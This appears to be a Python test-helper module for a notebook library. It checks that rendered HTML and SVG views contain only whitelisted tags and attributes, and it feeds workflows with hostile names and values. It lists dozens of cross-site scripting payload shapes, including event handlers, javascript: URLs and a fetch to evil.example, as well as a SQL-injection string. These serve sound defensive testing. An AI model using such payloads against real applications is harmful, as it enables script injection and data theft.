"""Names and values that would do harm if a view obeyed them, and what a harmless view may have in it."""

from __future__ import annotations

import re
from typing import Any

import durablenb as df
from durablenb.notebook.live.widget import LiveView
from tests.notebook.reading import SVG, Page, html_of
from tests.notebook.scenes import Stage

TAGS = {
    *("div", "p", "b", "br", "code", "pre", "span", "img", "table", "thead", "tbody", "tr", "th", "td"),
    *("details", "summary", "picture", "source"),
}
ATTRIBUTES = {"class", "style", "alt", "src", "width", "align", "open", "media", "srcset"}
MARKS = {"svg", "title", "g", "rect", "path", "text", "circle"}
LIVE_TAGS = {*TAGS, *MARKS, "button", "form", "input", "select", "option"} - {"img"}
STYLE = re.compile(
    r"@media screen and \(prefers-color-scheme:dark\)"
    r'\{(\[(fill|stroke)="#[0-9a-f]{3,6}"\]\{(fill|stroke):#[0-9a-f]{6}\})*\}'
)
"""The style of a still picture: nothing but colours."""
STYLES = re.compile(
    r"(?:(?:text-align|vertical-align|white-space|max-width|overflow-wrap):[a-z]+|min-width:[0-9]+px)(?:;|$)"
)

_SCRIPTS = ("alert(1)", "alert`1`", "fetch('//evil.example')", "document.title=1")
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg onload='{}'>",
    "<svg><script>{}</script></svg>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    "javascript:{}",
    '<a href="javascript:{}">x</a>',
    "<iframe srcdoc='<script>{}</script>'>",
    "<style>@import '//evil.example'</style>{}",
    "</title><script>{}</script>",
    "</text><foreignObject><body onload={}></foreignObject>",
    "</pre></td></table><script>{}</script>",
    "</details></summary><script>{}</script>",
    "]]><script>{}</script>",
    "<!--{}--><script>",
    "--><script>{}</script><!--",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?>{}<?php",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "&quot; onload={}",
    "%3Cscript%3E{}%3C/script%3E",
    "<math><mi xlink:href='data:x,{}'>",
    "<use href='data:image/svg+xml,{}#x'/>",
    "url(javascript:{})",
    "expression({})",
    "<base href='//evil.example/'>{}",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<form action=javascript:{}><button>",
    "<object data='data:text/html,{}'>",
    "<embed src=javascript:{}>",
    "<input onfocus={} autofocus>",
    "<template><script>{}</script></template>",
    "$x^2$ {}",
    "\\(x\\) \\[y\\] {}",
    "```html\n{}\n```",
    "{}\x00\x01\x08\x0b\x1b[31m\x7f\x85",
    "\u202e{}\u202c\u200b\ufeff\ufffe\uffff",
    "z\u0351\u0353\u0358{}\U0001f600\u00e4\u6f22",
    "{}" + "<" * 3_000,
)
PAYLOADS = [shape.replace("{}", _SCRIPTS[place % 4]) for place, shape in enumerate(_SHAPES)]
ODD: list[Any] = [
    *(None, True, -1, 1, 10**30, float("inf"), float("nan"), [1], {"data": 1}, {"a": {"b": []}}),
    *("", "-1", "²", "step", "step 1", "step ²", "step 99"),
    *("call 1 0", "call 1 99999999999999999999", "call ² ²", "cell 1 0", "cell 1 -1", "cell x y"),
    *("operation ²", "operation 99999999999999999999", "instance nobody"),
    *("'", "';drop table journal;--", "\x00", "\ud800", "<script>alert(1)</script>", "x" * 5_000),
]
"""What no page of durablenb would say."""


def harmless(html: str) -> Page:
    """The HTML as a page, of which nothing but the known tags and marks is a tag or a mark."""
    page = Page(html)
    assert page.open == []
    for tag, attributes in page.tags:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        style = attributes.get("style") or ""
        assert STYLES.sub("", style) == "", style
        if "src" in attributes:
            assert str(attributes["src"]).startswith("data:image/svg+xml;base64,")
    for picture in page.pictures:
        for element in picture.root.iter():
            if element.tag == f"{SVG}style":
                assert STYLE.fullmatch(element.text or "")
                continue
            assert element.tag.removeprefix(SVG) in MARKS
            assert not any(name.startswith("on") or "href" in name for name in element.attrib), element.attrib
            assert not any(
                "url(" in value or "javascript" in value
                for name, value in element.attrib.items()
                if name != "aria-label"
            ), element.attrib
    assert "\x1b" not in html
    return page


def harmless_view(view: LiveView) -> Page:
    """Check that a live view has only known tags, and that no text of the data is executed."""
    page = Page(html_of(view))
    assert page.open == []
    for tag, attributes in page.tags:
        assert tag in LIVE_TAGS, tag
        style = attributes.get("style") or ""
        assert STYLES.sub("", style) == "", style
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert "href" not in name
            assert "src" not in name
            if name not in ("aria-label", "placeholder", "value", "title") and not name.startswith("data-"):
                assert "url(" not in str(value)
    return page


def hostile(text: str, made: Stage) -> df.Handle:
    """An instance all of whose names and values are this text."""
    name = text[:150]
    identity = "".join(
        character for character in name if character.isprintable() and character not in "/\\#?"
    )

    def refuse(value):
        raise ValueError(text)

    def orchestrator(context):
        context.set_custom_status({text[:80]: text[:80]})
        yield context.call_activity(f"ok {name}", text)
        waits = [context.wait_for_external_event(f"event {name}")]
        waits += [context.call_activity(f"ok {name}", text) for _ in range(14)]
        yield context.task_any(waits)
        yield context.call_activity(f"bad {name}", text)

    made.hub.add_activity(lambda value: value, name=f"ok {name}")
    made.hub.add_activity(refuse, name=f"bad {name}")
    made.hub.add_orchestrator(orchestrator, name)
    handle = made.hub.start(
        name,
        {text[:50]: [text]},
        instance_id=f"{len(made.hub.instances())} {identity}"[:200],
        tags={"tag": text[:100]},
    )
    handle.wait()
    return handle


def hostile_entity(text: str, made: Stage) -> tuple[df.EntityHandle, df.Handle]:
    """An entity and what calls it, all of whose names, values, states and failures are this text."""
    place = len(made.hub.instances())
    name = "".join(one for one in text[:60] if one.isprintable() and one not in "/\\#?@")
    key = "".join(one for one in text[:60] if one.isprintable() and one not in "/\\#?")
    entity = df.EntityId(f"{place} {name}", f"{place} {key}")

    def keeping(context):
        context.set_state({text[:50]: [text], text[50:90] or "more": place})
        if context.operation_name.startswith("bad"):
            raise ValueError(text)
        return text

    def orchestrator(context):
        context.signal_entity(entity, f"bad {text[:80]}", text)
        with (yield context.lock([entity])):
            yield context.call_entity(entity, f"ok {text[:80]}", text)
            yield context.wait_for_external_event("never")

    made.hub.add_entity(keeping, entity.name)
    made.hub.add_orchestrator(orchestrator, text[:150])
    handle = made.hub.start(text[:150], instance_id=f"{place} {key}")
    made.settle()
    made.hub.client.signal_entity(entity, f"later {text[:80]}", text)
    return df.EntityHandle(made.hub, entity), handle
